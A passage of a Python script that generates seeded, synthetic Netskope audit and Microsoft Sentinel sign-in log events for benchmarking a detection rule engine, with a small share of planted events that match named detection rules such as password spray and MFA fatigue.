#!/usr/bin/env python3
"""Seeded generator of realistic benchmark events for rulec (newline-delimited JSON).

    python3 bench/gen_events.py --kind KIND --count N --seed S [--out FILE] [--attack-rate X]

KIND is one of
  netskope          Netskope admin audit events as Panther normalizes them (p_log_type
                    "Netskope.Audit", `timestamp` "YYYY-MM-DD HH:MM:SS.000000000").
  signin            Microsoft Sentinel SigninLogs rows (Type "SigninLogs").
  process_creation  Sysmon EventID 1 in the EVTX-JSON rendering of SigmaHQ's regression
                    data ({"Event":{"#attributes":..,"System":..,"EventData":..}}); these
                    carry no log type: run them with `rulec run ... --log-type WinEventLog`.
  sentinel          SecurityEvent, SigninLogs and CommonSecurityLog rows in one file, each
                    with its table in `Type`, sharing users, hosts and IPs (for joins).

Same arguments -> byte-identical output (Python 3.11 standard library only; nothing
depends on hash randomization or the clock). Most events are benign and repetitive:
entities (users, hosts, images, apps) are drawn from pools of a few hundred with a
Zipf-like skew, and timestamps advance by small random steps from a fixed start.
About 1% of events are "planted": they reproduce values that real rules look for
(see the PLANTED_* tables below, each entry naming the rule file it comes from).
--attack-rate scales how often planted events are started (0 disables them).

Speed: every string that can appear in an event is JSON-encoded once, when the
pools are built; an event is then assembled from those pieces with f-strings
(no json.dumps per event).
"""

import argparse
import base64
import bisect
import calendar
import hashlib
import json
import os
import random
import sys
import time

# --------------------------------------------------------------------------- helpers


def J(s):
    """JSON-encode once, at pool-building time."""
    return json.dumps(s, ensure_ascii=False, separators=(",", ":"))


def epoch(s):
    return calendar.timegm(time.strptime(s, "%Y-%m-%dT%H:%M:%SZ"))


def zipf_cum(n, s=1.1, q=1.0):
    acc, out = 0.0, []
    for i in range(n):
        acc += 1.0 / ((i + q) ** s)
        out.append(acc)
    return out


def cum(weights):
    acc, out = 0.0, []
    for w in weights:
        acc += w
        out.append(acc)
    return out


class Picker:
    """Draws an index from cumulative weights with one rng.random() call."""

    __slots__ = ("cw", "tot", "last", "rnd")

    def __init__(self, rng, cw):
        self.cw, self.tot, self.last, self.rnd = cw, cw[-1], len(cw) - 1, rng.random

    def __call__(self):
        i = bisect.bisect_right(self.cw, self.rnd() * self.tot)
        return i if i < self.last else self.last


def zipf_picker(rng, n, s=1.1, q=1.0):
    return Picker(rng, zipf_cum(n, s, q))


def weighted(rng, pairs):
    """pairs: [(weight, value)] -> (picker, values)."""
    return Picker(rng, cum([w for w, _ in pairs])), [v for _, v in pairs]


class SecondFormat:
    """time.strftime of whole seconds, cached (consecutive events share seconds)."""

    __slots__ = ("fmt", "sec", "txt")

    def __init__(self, fmt):
        self.fmt, self.sec, self.txt = fmt, None, ""

    def __call__(self, sec):
        if sec != self.sec:
            self.sec, self.txt = sec, time.strftime(self.fmt, time.gmtime(sec))
        return self.txt


def uuid4(rng):
    h = "%032x" % rng.getrandbits(128)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[int(h[16], 16) & 3]}{h[17:20]}-{h[20:]}"


FIRST = ("james mary john patricia robert jennifer michael linda william elizabeth david barbara "
         "richard susan joseph jessica thomas sarah charles karen daniel nancy matthew lisa "
         "anthony betty mark margaret donald sandra steven ashley paul kimberly andrew emily "
         "joshua donna kenneth michelle kevin carol brian amanda george melissa timothy deborah "
         "ronald stephanie jason rebecca edward laura jeffrey sharon ryan cynthia jacob kathleen "
         "priya wei yuki ahmed fatima carlos sofia lukas anna omar chen").split()
LAST = ("smith johnson williams brown jones garcia miller davis rodriguez martinez hernandez "
        "lopez gonzalez wilson anderson thomas taylor moore jackson martin lee perez thompson "
        "white harris sanchez clark ramirez lewis robinson walker young allen king wright scott "
        "torres nguyen hill flores green adams nelson baker hall rivera campbell mitchell carter "
        "roberts patel kumar schmidt muller rossi tanaka kim okafor novak larsen").split()


def person_names(rng, n):
    seen, out = set(), []
    while len(out) < n:
        f, l = rng.choice(FIRST), rng.choice(LAST)
        if (f, l) in seen:
            continue
        seen.add((f, l))
        out.append((f, l))
    return out


PUBLIC_PREFIXES = (24, 47, 50, 64, 66, 67, 68, 69, 70, 71, 72, 73, 74, 75, 76, 96, 97, 98, 99,
                   107, 108, 142, 162, 172, 173, 174, 184, 208, 209)


def public_ip(rng):
    return (f"{rng.choice(PUBLIC_PREFIXES)}.{rng.randrange(1, 255)}."
            f"{rng.randrange(0, 256)}.{rng.randrange(1, 255)}")


class Campaigns:
    """Planted activity: a campaign is a generator of event specs. While one runs, each
    event slot is taken by its next event with probability `interleave`; otherwise a new
    campaign starts with probability p_start."""

    def __init__(self, rng, p_start, factories, interleave=0.35):
        self.rnd = rng.random
        self.p_start, self.interleave = p_start, interleave
        self.pick, self.factories = weighted(rng, factories)
        self.active = None

    def next(self):
        if self.active is not None:
            if self.rnd() >= self.interleave:
                return None
            spec = next(self.active, None)
            if spec is not None:
                return spec
            self.active = None
            return None
        if self.p_start > 0 and self.rnd() < self.p_start:
            self.active = self.factories[self.pick()]()
            return next(self.active, None)
        return None


# =========================================================================== netskope
#
# Field names, nesting and value shapes follow rules/netskope/netskope-audit-sample.jsonl
# and the Tests of the Panther Netskope rules (../shared/corpus/panther/Netskope.*.yml):
# _id (24 hex), _insertion_epoch_timestamp, audit_log_event, count, is_netskope_personnel,
# organization_unit, severity_level, supporting_data {data_type, data_values[...]},
# timestamp "YYYY-MM-DD HH:MM:SS.000000000", type "admin_audit_logs", ur_normalized, user;
# plus the standard fields Panther adds (p_log_type, p_row_id, p_event_time, ...).

# Planted Netskope activity; every value is one the named rule tests for.
PLANTED_NETSKOPE = {
    # Netskope.UnauthorizedAPICalls.yml: supporting_data.data_values[0] == 403, Threshold 10
    "unauthorized_api": "12-40 'Rest API V2 Call' events with data_values[0] = 403 from one token",
    # Netskope.ManyDeletes.yml: audit_log_event Contains "Delete", Threshold 10
    "many_deletes": "11-25 'Deleted ...' events (e.g. 'Deleted rbi template', from the rule's test)",
    # Netskope.AdminUserChange.yml: audit_log_event IsIn [...]
    "admin_change": "1-3 events from the rule's IsIn list ('Created new admin', ...)",
    # Netskope.NetskopePersonnelActivity.yml: is_netskope_personnel == true
    "personnel": "a short session by adminsupport@netskope.com with is_netskope_personnel true",
    # Netskope.AdminLoggedOutLoginFailures.yml: audit_log_event == this text
    "logout_failures": "'Admin logged out because of successive login failures' after failed logins",
}
ADMIN_CHANGE_EVENTS = ["Created new admin", "Added SSO Admin", "Edited SSO Admin Record",
                       "Created new support admin", "Edit admin record", "Deleted admin",
                       "Enabled admin", "Disabled admin", "Unlocked admin",
                       "Updated admin settings", "Deleted Netskope SSO admin"]
DELETE_EVENTS = [("Deleted rbi template", "rbi_template"), ("Deleted policy", "policy"),
                 ("Deleted URL list", "url_list"), ("Deleted custom category", "custom_category"),
                 ("Deleted publisher", "publisher"), ("Deleted private app", "private_app"),
                 ("Deleted DLP rule", "dlp_rule")]

POLICY_NAMES = ["Block Unsanctioned Cloud Storage", "Allow Corporate O365", "DLP - PCI Upload Block",
                "Coach Personal Webmail", "RBI - Uncategorized Sites", "Block Newly Registered Domains",
                "Finance - Restrict Box Downloads", "Engineering GitHub Allow", "Threat Protection Default",
                "Alert on Generative AI Uploads", "Block High Risk CCI Apps", "Legal - SharePoint Isolation"]
URL_LISTS = ["Blocked Domains - Global", "Allowed SaaS - Finance", "Bypass - Zoom Media",
             "Do Not Inspect - Banking", "Custom Block - Phishing Feed", "Allowed GenAI Tools"]
CUSTOM_CATS = ["Corp Approved Storage", "Shadow IT - Watchlist", "Partner Portals", "Streaming Media"]
DLP_PROFILES = ["PCI-DSS Enhanced", "PII - US SSN", "Source Code Leakage", "HIPAA PHI", "Credentials in Docs"]
APP_INSTANCES = ["Box - corp tenant", "OneDrive - contoso", "Google Drive - marketing", "Slack - enterprise grid"]
PUBLISHERS = ["npa-pub-use1-01", "npa-pub-euw1-02", "npa-pub-dc-fra", "npa-pub-aws-apse2"]


def gen_netskope(seed, count, rate):
    pr = random.Random(f"netskope-pools:{seed}")
    rng = random.Random(f"netskope-stream:{seed}")
    rnd, bits = rng.random, rng.getrandbits
    domain = "example.com"

    services = ["service-account", f"svc-splunk-addon@{domain}", f"svc-siem-export@{domain}",
                "api-token-soar", f"scim-provisioning@{domain}", f"svc-terraform@{domain}",
                f"reporting-bot@{domain}", f"svc-backup-config@{domain}", "api-token-legacy-dlp",
                f"svc-ticketing@{domain}"]
    people = [f"{f}.{l}@{domain}" for f, l in person_names(pr, 290)]
    order = people[:]
    for pos, s in zip((0, 1, 3, 5, 8, 13, 21, 34, 55, 89), services):
        order.insert(pos, s)
    office_ips = [public_ip(pr) for _ in range(6)]
    ous = ["", "", "", "", "", "Corp/IT", "Corp/IT/Security", "Corp/Finance", "EMEA/Sales", "APAC/Ops"]

    # Per-user pre-encoded pieces.
    users = []  # (user_j, urn_j, is_service, ip_list, ou_j, emails_j)
    for u in order:
        svc = u in services
        ips = [] if svc else ([pr.choice(office_ips)] + ([public_ip(pr)] if pr.random() < 0.5 else []))
        uj = J(u)
        emails = f',"p_any_emails":[{uj}]' if "@" in u else ""
        users.append((uj, J(u.lower()), svc, ips, J(pr.choice(ous)), emails))
    pick_user = zipf_picker(rng, len(users), 1.1, 1.0)

    # REST API v2 endpoints: (method, path template, data_type). Templates are filled
    # at pool time into a few concrete paths each (paths repeat, as real polling does).
    endpoints = [
        (30, "GET", "/api/v2/events/dataexport/events/{et}?operation=next&index={idx}", "events"),
        (10, "GET", "/api/v2/events/data/{et}?starttime={st}&endtime={en}&limit=5000&offset={off}", "events"),
        (12, "POST", "/api/v2/incidents/uba/getuci", "incidents"),
        (4, "POST", "/api/v2/incidents/users/getuci", "incidents"),
        (5, "GET", "/api/v2/events/data/alert?query=alert_type eq '{at}'&starttime={st}", "incidents"),
        (6, "GET", "/api/v2/policy/urllist?pending=0&field=id,name", "policy"),
        (2, "PATCH", "/api/v2/policy/urllist/{n}/append", "policy"),
        (1, "POST", "/api/v2/policy/urllist/deploy", "policy"),
        (6, "GET", "/api/v2/scim/Users?filter=userName eq \"{em}\"", "scim"),
        (3, "PATCH", "/api/v2/scim/Users/{uuid}", "scim"),
        (1, "POST", "/api/v2/scim/Groups", "scim"),
        (3, "GET", "/api/v2/infrastructure/publishers?fields=publisher_id,publisher_name,status", "infrastructure"),
        (2, "GET", "/api/v2/steering/private/apps?fields=app_id,app_name,host", "steering"),
        (2, "GET", "/api/v2/services/cci/app?apps={app}&fields=cci,ccl,category", "services"),
        (1, "GET", "/api/v2/atp/scans/filescan/{n}", "atp"),
    ]
    ets = ["alert", "application", "network", "page", "audit", "incident", "infrastructure"]
    ats = ["DLP", "malware", "policy", "Compromised Credential", "anomaly", "uba"]
    apps = ["Box", "Dropbox", "Slack", "ChatGPT", "WeTransfer", "Google Drive", "Notion"]
    rest = []  # (weight, (method_j, path_j, data_type))
    for w, method, tpl, dt in endpoints:
        k = 1 if "{" not in tpl else 6
        for _ in range(k):
            st = 1702252800 + pr.randrange(0, 86400 * 30)
            path = tpl.format(et=pr.choice(ets), idx=pr.choice(["splunk_ta_prod", "sentinel_connector", "siem_export_01"]),
                              st=st, en=st + 300, off=pr.randrange(0, 20) * 5000, at=pr.choice(ats),
                              n=pr.randrange(1, 400), em=pr.choice(people), uuid=uuid4(pr), app=pr.choice(apps))
            rest.append((w / k, (J(method), J(path), dt)))
    pick_rest, rest_v = weighted(rng, rest)
    pick_status, status_v = weighted(rng, [(90, 200), (2, 201), (2, 204), (1.5, 400), (1.5, 404),
                                           (2, 429), (0.7, 500), (0.3, 403)])

    def sd(dtype, values_j):
        return f'{{"data_type":"{dtype}","data_values":[{",".join(values_j)}]}}'

    # Human UI activity: (weight, event, data_type, value pool, severity). No benign event
    # text contains "Delete" (Netskope.ManyDeletes) or is in ADMIN_CHANGE_EVENTS.
    ui = [(14, "Admin logged in", "user", None, 2), (8, "Admin logged out", "user", None, 2),
          (6, "Login Successful", "user", None, 2), (6, "Edited policy", "policy", POLICY_NAMES, 2),
          (5, "Applied policy changes", "policy", POLICY_NAMES, 3), (4, "Edited URL list", "url_list", URL_LISTS, 2),
          (3, "Applied URL list changes", "url_list", URL_LISTS, 2),
          (2, "Edited custom category", "custom_category", CUSTOM_CATS, 2),
          (2, "Edited DLP profile", "dlp_profile", DLP_PROFILES, 2),
          (1, "Created new policy", "policy", POLICY_NAMES, 2),
          (2, "Edited App Instance", "app_instance", APP_INSTANCES, 2),
          (1, "Edited Steering Configuration", "steering_config", ["Default tenant steering", "Remote Workers", "Exceptions - VDI"], 2),
          (1, "Edited Client Configuration", "client_config", ["Default tenant config", "Windows - Engineering", "macOS - Sales"], 2),
          (2, "Edited publisher", "publisher", PUBLISHERS, 2),
          (3, "Exported report", "report", ["Application Events Last 7 Days.csv", "Top Risky Users.pdf", "Alerts - DLP Weekly.csv"], 1),
          (3, "Viewed incident", "incident", None, 1)]
    ui_e = [(w, (J(ev), dt, [J(v) for v in pool] if pool else None, sev)) for w, ev, dt, pool, sev in ui]
    pick_ui, ui_v = weighted(rng, ui_e)

    def benign():
        ui_idx = pick_user()
        uj, urn, svc, ips, ou, emails = users[ui_idx]
        if svc or rnd() < 0.35:
            m, p, dt = rest_v[pick_rest()]
            st = status_v[pick_status()]
            return (uj, urn, '"Rest API V2 Call"', "false", 2,
                    sd(dt, [str(st), m, p, '"trid=%016x"' % bits(64)]), None, ou, emails)
        ev, dt, pool, sev = ui_v[pick_ui()]
        ip = None
        if dt == "user":
            if rnd() < 0.7:
                ip = ips[0] if len(ips) == 1 or rnd() < 0.7 else ips[-1]
                vals = [J(ip), uj]
            else:
                vals = [uj]
        elif pool is None:
            vals = ['"%d"' % (4700000 + bits(16))]
        else:
            vals = [pool[bits(16) % len(pool)]]
        return (uj, urn, ev, "false", sev, sd(dt, vals), ip, ou, emails)

    # ---- planted campaigns
    def c_unauthorized():
        uj, urn, _, _, ou, emails = users[pr_stream_choice(services_idx)]
        for _ in range(rng.randrange(12, 41)):
            m, p, dt = rest_v[pick_rest()]
            yield (uj, urn, '"Rest API V2 Call"', "false", 2,
                   sd(dt, ["403", m, p, '"trid=%016x"' % bits(64)]), None, ou, emails)

    def c_deletes():
        uj, urn, _, ips, ou, emails = users[people_idx[rng.randrange(len(people_idx))]]
        for _ in range(rng.randrange(11, 26)):
            ev, dt = DELETE_EVENTS[rng.randrange(len(DELETE_EVENTS))]
            name = "%s-%04d" % (dt.replace("_", "-"), rng.randrange(10000))
            yield (uj, urn, J(ev), "false", 2, sd(dt, [J(name)]), None, ou, emails)

    def c_admin_change():
        uj, urn, _, ips, ou, emails = users[people_idx[rng.randrange(len(people_idx))]]
        for _ in range(rng.randrange(1, 4)):
            target = J(people[rng.randrange(len(people))])
            ev = ADMIN_CHANGE_EVENTS[rng.randrange(len(ADMIN_CHANGE_EVENTS))]
            yield (uj, urn, J(ev), "false", 2, sd("user", [target, '"Tenant Admin"']), None, ou, emails)

    def c_personnel():
        u = rng.choice(["adminsupport@netskope.com", "support-eng-%02d@netskope.com" % rng.randrange(40)])
        uj = J(u)
        ip = public_ip(rng)
        emails = f',"p_any_emails":[{uj}]'
        steps = ["Login Successful", "Edited Client Configuration", "Edited Steering Configuration",
                 "Exported report", "Admin logged out"]
        for ev in steps[: rng.randrange(2, 6)] + ["Admin logged out"]:
            yield (uj, uj, J(ev), "true", 2, sd("user", [J(ip), uj]), ip, '""', emails)

    def c_logout_failures():
        uj, urn, _, _, ou, emails = users[people_idx[rng.randrange(len(people_idx))]]
        ip = public_ip(rng)
        for _ in range(rng.randrange(3, 7)):
            yield (uj, urn, '"Login Failed"', "false", 2, sd("user", [J(ip), uj]), ip, ou, emails)
        yield (uj, urn, '"Admin logged out because of successive login failures"', "false", 2,
               sd("user", [J(ip), uj]), ip, ou, emails)

    services_idx = [i for i, u in enumerate(users) if u[2]]
    people_idx = [i for i, u in enumerate(users) if not u[2]]

    def pr_stream_choice(idx):
        return idx[rng.randrange(len(idx))]

    camp = Campaigns(rng, 0.0009 * rate, [(3, c_unauthorized), (2, c_deletes), (3, c_admin_change),
                                           (2, c_personnel), (2, c_logout_failures)])

    fmt = SecondFormat("%Y-%m-%d %H:%M:%S")
    fmt_parse = SecondFormat("%Y-%m-%d %H:%M:%S")
    src = uuid4(pr)
    t = epoch("2023-12-11T00:00:00Z") * 1_000_000
    for _ in range(count):
        t += int(rng.expovariate(1 / 900_000))  # mean 0.9 s between events
        spec = camp.next() or benign()
        uj, urn, ev, pers, sev, sdj, ip, ou, emails = spec
        sec = t // 1_000_000
        ts = fmt(sec) + ".000000000"
        lag = 60 if rnd() < 0.8 else 30 + bits(7)
        ptime = f"{fmt_parse(sec + lag + 2)}.{bits(20) % 1000000:06d}000"
        ips = f',"p_any_ip_addresses":["{ip}"]' if ip else ""
        cnt = 1 if rnd() < 0.97 else 2 + bits(2)
        yield (f'{{"_id":"{bits(96):024x}","_insertion_epoch_timestamp":{sec + lag},"audit_log_event":{ev},'
               f'"count":{cnt},"is_netskope_personnel":{pers},"organization_unit":{ou},"severity_level":{sev},'
               f'"supporting_data":{sdj},"timestamp":"{ts}","type":"admin_audit_logs","ur_normalized":{urn},'
               f'"user":{uj},"p_log_type":"Netskope.Audit","p_row_id":"{bits(112):028x}",'
               f'"p_event_time":"{ts}","p_parse_time":"{ptime}","p_source_id":"{src}",'
               f'"p_source_label":"Netskope Audit Logs"{emails}{ips}}}')


# =========================================================================== signin
#
# Microsoft Sentinel SigninLogs columns as the Sentinel queries in ../shared/corpus/kql read
# them (005, 006, 008, 009, 014, 015, 017, 020, 027, 028): DeviceDetail, LocationDetails,
# Status and ConditionalAccessPolicies are dynamic (JSON objects/arrays);
# AuthenticationDetails and RiskEventTypes_V2 are string columns holding JSON text, as in
# the Log Analytics schema (the queries todynamic()/parse_json() them).

RESULTS = {  # ResultType -> (ResultDescription, Status.failureReason)
    "0": "",
    "50126": "Error validating credentials due to invalid username or password.",
    "50053": "Account is locked because user tried to sign in too many times with an incorrect user ID or password.",
    "50055": "The password is expired.",
    "50056": "Invalid or null password: password does not exist in store for this user.",
    "50057": "User account is disabled. The account has been disabled by an administrator.",
    "50074": "Strong Authentication is required.",
    "50076": "Due to a configuration change made by your administrator, or because you moved to a new location, you must use multi-factor authentication to access.",
    "50140": "This error occurred due to 'Keep me signed in' interrupt when the user was signing-in.",
    "50125": "Sign-in was interrupted due to a password reset or password registration entry.",
    "50058": "Session information is not sufficient for single-sign-on.",
    "16000": "Either multiple user identities are available for the current request or selected account is not supported for the scenario.",
    "50089": "Flow token expired - Authentication fails.",
    "70044": "The session has expired or is invalid due to sign-in frequency checks by conditional access.",
    "500121": "Authentication failed during strong authentication request.",
    "53003": "Access has been blocked by Conditional Access policies. The access policy does not allow token issuance.",
}
# Planted SigninLogs activity (rule file in ../shared/corpus/kql or rules/sentinel):
PLANTED_SIGNIN = {
    # 028_SigninPasswordSpray.yaml, 015_DistribPassCrackAttempt.yaml,
    # rules/sentinel/APISprayHighBlastRadius.yaml: ResultType in (50126, 50053, 50055) from one IP
    # over many UserPrincipalNames; UserAgent has "AmazonAPIGateway_" (API-gateway spray) or BAV2ROPC
    "spray": "one IP, 15-40 users, ResultType 50126 (some 50053/50055)",
    # 017_FailedLogonToAzurePortal.yaml / 008_BruteForceCloudPC.yaml: failures on "Azure Portal" /
    # "Windows Sign In" for one user from >= 2 IPs
    "brute_force": "one user, 8-25 failures on Azure Portal or Windows Sign In, ends locked (50053)",
    # 020_MFASpammingfollowedbySuccessfullogin.yaml: > 10 "MFA denied; ..." within 5 min, then success
    "mfa_fatigue": "AuthenticationRequirement multiFactorAuthentication, 11-15 MFA denials then success",
    # 014_DisabledAccountSigninsAcrossManyApplications.yaml: ResultType "50057" on >= 3 apps
    "disabled_account": "ResultType 50057 on 3-5 AppDisplayNames from one IP",
    # 009_BypassCondAccessRule.yaml: ConditionalAccessStatus "failure", a policy result "failure", > 1 IP
    "ca_failure": "ResultType 53003, ConditionalAccessStatus failure, 2-4 IPs",
    # 005_AzureAADPowerShellAnomaly.yaml: AppId 1b730954-..., TokenIssuerType AzureAD,
    # ResourceIdentity not AAD/MS Graph, Status.errorCode 0
    "aad_powershell": "Azure Active Directory PowerShell sign-in to Azure Service Management",
    # 006_AzurePortalSigninfromanotherAzureTenant.yaml: ResultType 0, Azure Portal, HomeTenantId != ResourceTenantId
    "foreign_tenant": "Azure Portal success from a guest of another tenant, from an Azure IP",
    # RiskLevelDuringSignIn / RiskState columns (read by Sentinel UEBA and hunting queries)
    "risky": "RiskLevelDuringSignIn high, RiskState atRisk, anonymizedIPAddress",
}

APPS = [  # weight, AppDisplayName, AppId, ResourceDisplayName, ResourceIdentity
    (18, "Microsoft Teams", "1fec8e78-bce4-4aaf-ab1b-5451cc387264", "Microsoft Teams Services", "cc15fd57-2c6c-4117-a88c-83b1d56b4bbe"),
    (14, "Office 365 Exchange Online", "00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online", "00000002-0000-0ff1-ce00-000000000000"),
    (12, "Microsoft Office", "d3590ed6-52b3-4102-aeff-aad2292ab01c", "Microsoft Graph", "00000003-0000-0000-c000-000000000000"),
    (8, "OfficeHome", "4765445b-32c6-49b0-83e6-1d93765276ca", "Office 365 SharePoint Online", "00000003-0000-0ff1-ce00-000000000000"),
    (7, "Office365 Shell WCSS-Client", "89bee1f7-5e6e-4d8a-9f3d-ecd601259da7", "Microsoft Graph", "00000003-0000-0000-c000-000000000000"),
    (6, "OneDrive SyncEngine", "ab9b8c07-8f02-4f72-87fa-80105867a763", "Office 365 SharePoint Online", "00000003-0000-0ff1-ce00-000000000000"),
    (6, "Windows Sign In", "38aa3b87-a06d-4817-b275-7a316988d93b", "Windows Azure Active Directory", "00000002-0000-0000-c000-000000000000"),
    (5, "Microsoft Authentication Broker", "29d9ed98-a469-4536-ade2-f981bc1d605e", "Microsoft Graph", "00000003-0000-0000-c000-000000000000"),
    (4, "Microsoft Edge", "ecd6b820-32c2-49b6-98a6-444530e5a77a", "Microsoft Graph", "00000003-0000-0000-c000-000000000000"),
    (4, "Outlook Mobile", "27922004-5251-4030-b22d-91ecd9a37ea4", "Office 365 Exchange Online", "00000002-0000-0ff1-ce00-000000000000"),
    (3, "My Apps", "2793995e-0a7d-40d7-bd35-6968ba142197", "Microsoft Graph", "00000003-0000-0000-c000-000000000000"),
    (2, "Azure Portal", "c44b4083-3bb0-49c1-b47d-974e53cbdf3c", "Windows Azure Service Management API", "797f4846-ba00-4fd7-ba43-dac1f8f63013"),
    (1, "Microsoft Azure CLI", "04b07795-8ddb-461a-bbee-02f9e1bf7b46", "Windows Azure Service Management API", "797f4846-ba00-4fd7-ba43-dac1f8f63013"),
    (1, "Microsoft Intune Company Portal", "9ba1a5c7-f17a-4de9-a1f1-6178c8d51223", "Microsoft Intune", "0000000a-0000-0000-c000-000000000000"),
    (3, "Salesforce", "6f1b2c3d-93a7-4e0f-8d55-2a6c0e4f7b81", "Salesforce", "6f1b2c3d-93a7-4e0f-8d55-2a6c0e4f7b81"),
    (2, "ServiceNow", "0a8e6f3b-51c4-4d7e-b2a9-7c3e1f5d9a60", "ServiceNow", "0a8e6f3b-51c4-4d7e-b2a9-7c3e1f5d9a60"),
    (2, "Zoom", "3b7c9e1a-42d8-4f6b-a0c5-8e2d7f1b3c94", "Zoom", "3b7c9e1a-42d8-4f6b-a0c5-8e2d7f1b3c94"),
    (1, "Workday", "8d2f4a6c-1e3b-4c5d-9f7a-0b6e8c2d4f13", "Workday", "8d2f4a6c-1e3b-4c5d-9f7a-0b6e8c2d4f13"),
    (1, "GitHub Enterprise Cloud", "5e9a1c7b-3d2f-4b8e-a6c4-1f0d9e7b5a22", "GitHub Enterprise Cloud", "5e9a1c7b-3d2f-4b8e-a6c4-1f0d9e7b5a22"),
]
AAD_POWERSHELL = ("Azure Active Directory PowerShell", "1b730954-1685-4b74-9bfd-dac224a7b894",
                  "Windows Azure Service Management API", "797f4846-ba00-4fd7-ba43-dac1f8f63013")
CITIES = [  # weight, city, state, countryOrRegion, lat, lon
    (30, "Seattle", "Washington", "US", 47.6062, -122.3321), (20, "New York", "New York", "US", 40.7128, -74.006),
    (12, "Austin", "Texas", "US", 30.2672, -97.7431), (10, "Chicago", "Illinois", "US", 41.8781, -87.6298),
    (8, "Denver", "Colorado", "US", 39.7392, -104.9903), (6, "Atlanta", "Georgia", "US", 33.749, -84.388),
    (6, "London", "England", "GB", 51.5072, -0.1276), (4, "Dublin", "Dublin", "IE", 53.3498, -6.2603),
    (4, "Toronto", "Ontario", "CA", 43.6532, -79.3832), (3, "Bengaluru", "Karnataka", "IN", 12.9716, 77.5946),
    (3, "Berlin", "Berlin", "DE", 52.52, 13.405), (2, "Singapore", "Central Singapore", "SG", 1.3521, 103.8198),
    (2, "Sydney", "New South Wales", "AU", -33.8688, 151.2093), (2, "Portland", "Oregon", "US", 45.5152, -122.6784),
    (2, "Boston", "Massachusetts", "US", 42.3601, -71.0589), (1, "Madrid", "Madrid", "ES", 40.4168, -3.7038),
]
ATTACK_CITIES = [("Amsterdam", "Noord-Holland", "NL", 52.3676, 4.9041), ("Moscow", "Moscow", "RU", 55.7558, 37.6173),
                 ("Sao Paulo", "Sao Paulo", "BR", -23.5505, -46.6333), ("Hanoi", "Ha Noi", "VN", 21.0278, 105.8342),
                 ("Ashburn", "Virginia", "US", 39.0438, -77.4874), ("Frankfurt am Main", "Hessen", "DE", 50.1109, 8.6821),
                 ("Lagos", "Lagos", "NG", 6.5244, 3.3792), ("Bucharest", "Bucuresti", "RO", 44.4268, 26.1025)]
DEVICES = [  # weight, operatingSystem, browser, ClientAppUsed, UserAgent, managed
    (34, "Windows10", "Edge 124.0.0", "Browser",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0", True),
    (16, "Windows10", "Chrome 124.0.0", "Browser",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36", True),
    (14, "Windows10", "Rich Client 5.2.3.0", "Mobile Apps and Desktop clients",
     "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.2", True),
    (10, "Windows10", "", "Mobile Apps and Desktop clients", "Windows-AzureAD-Authentication-Provider/1.0", True),
    (8, "MacOs", "Safari 17.4.1", "Browser",
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15", True),
    (5, "MacOs", "Chrome 124.0.0", "Browser",
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36", True),
    (7, "Ios", "Mobile Safari 17.4", "Mobile Apps and Desktop clients",
     "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148", False),
    (6, "Android", "Chrome Mobile 124.0.6367", "Mobile Apps and Desktop clients",
     "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36", False),
]
CA_POLICIES = ["Require MFA for all users", "Block legacy authentication", "Require compliant device for Office 365",
               "Require MFA for Azure management", "Block access from sanctioned countries", "Sign-in frequency 12h for unmanaged"]


def gen_signin(seed, count, rate):
    pr = random.Random(f"signin-pools:{seed}")
    rng = random.Random(f"signin-stream:{seed}")
    rnd, bits = rng.random, rng.getrandbits
    tenant = uuid4(pr)
    domain = "contoso.com"
    cities = [(J(c), J(s), J(cc), f'{{"city":{J(c)},"state":{J(s)},"countryOrRegion":{J(cc)},'
               f'"geoCoordinates":{{"latitude":{la},"longitude":{lo}}}}}') for _, c, s, cc, la, lo in CITIES]
    city_cw = cum([w for w, *_ in CITIES])
    office_ips = [(public_ip(pr), i, 8075 if i % 2 else 7018) for i in (0, 0, 1, 2, 3, 6)]

    def loc_block(ci):
        _, _, cc, det = cities[ci]
        return f'"Location":{cc},"LocationDetails":{det}'

    dev_cw = cum([d[0] for d in DEVICES])
    users = []  # (ident_block_j, upn_j, devices, ips)
    for first, last in person_names(pr, 420):
        upn = f"{first}.{last}@{domain}"
        disp = f"{first.title()} {last.title()}"
        ident = (f'"Identity":{J(disp)},"UserDisplayName":{J(disp)},"UserId":"{uuid4(pr)}",'
                 f'"UserPrincipalName":{J(upn)}')
        devs = []
        for _ in range(1 + (pr.random() < 0.6) + (pr.random() < 0.2)):
            d = DEVICES[bisect.bisect_left(dev_cw, pr.random() * dev_cw[-1])]
            _, os_, br, client, ua, managed = d
            if managed:
                name = "LT-%05d" % pr.randrange(100000) if os_ == "Windows10" else "MAC-%04d" % pr.randrange(10000)
                dd = (f'{{"deviceId":"{uuid4(pr)}","displayName":"{name}","operatingSystem":"{os_}",'
                      f'"browser":"{br}","isCompliant":true,'
                      f'"trustType":"{"Hybrid Azure AD joined" if os_ == "Windows10" and pr.random() < 0.5 else "Azure AD joined"}"}}')
            else:
                dd = f'{{"deviceId":"","operatingSystem":"{os_}","browser":"{br}"}}'
            devs.append((dd, J(ua), J(client)))
        home = bisect.bisect_left(city_cw, pr.random() * city_cw[-1])
        ips = [office_ips[pr.randrange(len(office_ips))], (public_ip(pr), home, pr.choice([7922, 7018, 20115, 22773, 701, 2856]))]
        users.append((ident, J(upn), devs, ips))
    pick_user = zipf_picker(rng, len(users), 1.05, 2.0)
    pick_dev = Picker(rng, cum([8, 2, 1]))

    apps = [f'"AppDisplayName":{J(a)},"AppId":"{i}"' for _, a, i, _, _ in APPS]
